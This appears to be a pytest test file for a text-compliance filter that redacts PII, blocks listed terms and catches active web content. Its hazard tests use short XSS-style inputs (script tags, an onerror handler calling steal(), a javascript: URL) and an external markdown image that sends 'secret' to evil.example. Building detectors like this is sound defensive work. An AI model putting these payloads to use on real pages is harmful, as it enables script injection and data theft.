"""Policy loading (shipped and malformed), each rule kind, whole-text filtering and the filter CLI."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pytest

from lmforge import pii
from lmforge.compliance import PolicyError, apply_policy, load_policy, parse_policy
from lmforge.compliance.cli import run_filter_cli
from lmforge.compliance.policy import PII_LOOKAHEAD_CHARS
from lmforge.compliance.regex_shape import regex_reach

ROOT = Path(__file__).resolve().parents[2]
SHIPPED = ROOT / "configs" / "policy.yaml"


def _policy(*rules: dict) -> object:
    return parse_policy({"version": "t1", "rules": list(rules)})


def test_shipped_policy_loads_with_its_window() -> None:
    policy = load_policy(SHIPPED)
    assert policy.version and {r.kind for r in policy.rules} == {"pii", "term", "pattern", "hazard"}
    assert policy.window == pii.MAX_MATCH_CHARS["EMAIL"] + PII_LOOKAHEAD_CHARS


def test_reach_counts_what_end_anchors_read() -> None:
    # "foo$" matches "foo\n" only at the very end, so deciding it reads the character after the newline.
    assert regex_reach(re.compile("foo$")) == 5
    assert regex_reach(re.compile(r"foo\Z")) == regex_reach(re.compile(r"foo\b")) == 4


def test_pii_lookahead_bound_holds_for_every_detector() -> None:
    # The window adds PII_LOOKAHEAD_CHARS to MAX_MATCH_CHARS; a detector reading further breaks streaming.
    assert all(regex_reach(d.pattern) - d.max_chars <= PII_LOOKAHEAD_CHARS for d in pii._DETECTORS)


@pytest.mark.parametrize(
    "raw, message",
    [
        ({"rules": [{"id": "a", "kind": "pii", "action": "redact"}]}, "version"),
        ({"version": 1, "rules": []}, "rules"),
        ({"version": 1, "rules": [{"id": "a", "kind": "pii", "action": "erase"}]}, "action"),
        ({"version": 1, "rules": [{"id": "a", "kind": "vibes", "action": "block"}]}, "unknown kind"),
        (
            {
                "version": 1,
                "rules": [{"id": "a", "kind": "pii", "action": "redact", "params": {"kinds": ["DNA"]}}],
            },
            "unknown PII kinds",
        ),
        (
            {
                "version": 1,
                "rules": [{"id": "a", "kind": "pattern", "action": "block", "params": {"regex": "x+"}}],
            },
            "no length bound",
        ),
        (
            {
                "version": 1,
                "rules": [{"id": "a", "kind": "pattern", "action": "block", "params": {"regex": "(x"}}],
            },
            "rule 'a'",
        ),
        (
            {
                "version": 1,
                "rules": [{"id": "a", "kind": "term", "action": "block", "params": {"terms": []}}],
            },
            "terms",
        ),
        (
            {
                "version": 1,
                "rules": [
                    {"id": "a", "kind": "term", "action": "block", "params": {"terms": ["x"]}},
                    {"id": "a", "kind": "pii", "action": "redact"},
                ],
            },
            "duplicate",
        ),
        ([1, 2], "mapping"),
    ],
)
def test_malformed_policy_raises_clear_error(raw: object, message: str) -> None:
    with pytest.raises(PolicyError, match=message):
        parse_policy(raw)


def test_unreadable_and_non_yaml_policy(tmp_path: Path) -> None:
    with pytest.raises(PolicyError, match="cannot read"):
        load_policy(tmp_path / "missing.yaml")
    bad = tmp_path / "bad.yaml"
    bad.write_text("version: [1\nrules: x")
    with pytest.raises(PolicyError, match="not valid YAML"):
        load_policy(bad)


def test_pii_rule_redacts_to_kind() -> None:
    result = apply_policy(
        "mail bob@example.com or call (202) 555-0143",
        _policy({"id": "pii", "kind": "pii", "action": "redact"}),
    )
    assert result.text == "mail <EMAIL> or call <PHONE>" and not result.blocked
    assert [v.category for v in result.verdicts] == ["pii.EMAIL", "pii.PHONE"]
    assert result.verdicts[0].span == (5, 20) and not result.verdicts[0].allowed


def test_term_rule_blocks_whole_words_only_case_insensitively() -> None:
    policy = _policy({"id": "t", "kind": "term", "action": "block", "params": {"terms": ["bomb"]}})
    assert apply_policy("A BOMB here", policy).blocked
    assert not apply_policy("bombastic prose", policy).blocked
    blocked = apply_policy("a bomb", policy)
    assert blocked.text == "" and blocked.verdicts[0].rule == "t" and blocked.verdicts[0].action == "block"


def test_pattern_rule_redacts_with_bounded_regex() -> None:
    policy = _policy(
        {
            "id": "p",
            "kind": "pattern",
            "action": "redact",
            "params": {"regex": r"ticket-\d{1,6}\b", "replacement": "[t]"},
        }
    )
    assert policy.window == len("ticket-") + 6 + 1  # + the character \b reads
    out = apply_policy("see ticket-123 and ticket-1234567890", policy).text
    assert out == "see [t] and ticket-1234567890"


def test_flag_rule_allows_text_through() -> None:
    result = apply_policy(
        "quarterly numbers",
        _policy({"id": "f", "kind": "term", "action": "flag", "params": {"terms": ["quarterly"]}}),
    )
    assert result.text == "quarterly numbers" and result.verdicts[0].allowed


@pytest.mark.parametrize(
    "text, category",
    [
        ("<script>alert(1)</script>", "hazard.script_tag"),
        ("< SCRIPT src=x>", "hazard.script_tag"),
        ('<img src=x onerror="steal()">', "hazard.event_handler"),
        ("<iframe src=//evil>", "hazard.iframe"),
        ("[click](javascript:alert(1))", "hazard.javascript_url"),
    ],
)
def test_active_content_hazards_block(text: str, category: str) -> None:
    result = apply_policy(text, load_policy(SHIPPED))
    assert result.blocked and category in {v.category for v in result.verdicts}


def test_external_markdown_image_is_redacted_but_local_image_kept() -> None:
    policy = load_policy(SHIPPED)
    out = apply_policy("see ![chart](https://evil.example/x.png?d=secret) and ![a](img/local.png)", policy)
    assert "evil.example" not in out.text and "![a](img/local.png)" in out.text and not out.blocked


def test_filter_fails_closed_when_a_rule_raises(monkeypatch: pytest.MonkeyPatch) -> None:
    import lmforge.compliance.policy as policy_mod

    def boom(*_: object, **__: object) -> list:
        raise RuntimeError("detector crashed")

    monkeypatch.setattr(policy_mod, "find_pii", boom)
    result = apply_policy("anything", _policy({"id": "pii", "kind": "pii", "action": "redact"}))
    assert result.blocked and result.text == "" and result.verdicts[0].rule == "fail_closed"


def test_filter_cli_whole_and_streamed(tmp_path: Path) -> None:
    lines = [{"text": "mail bob@example.com " + "x" * 600}, {"text": "<script>"}]
    stdin = io.StringIO("\n".join(json.dumps(r) for r in lines) + "\nnot json\n")
    for chunks in (None, 7):
        stdin.seek(0)
        out = io.StringIO()
        assert run_filter_cli(SHIPPED, chunks, stdin, out) == 1  # the last line is not JSON
        first, second, third = (json.loads(x) for x in out.getvalue().splitlines())
        assert first["text"].startswith("mail <EMAIL> ") and first["actions"][0]["rule"] == "pii"
        assert second["blocked"] and second["text"] == ""
        assert "error" in third
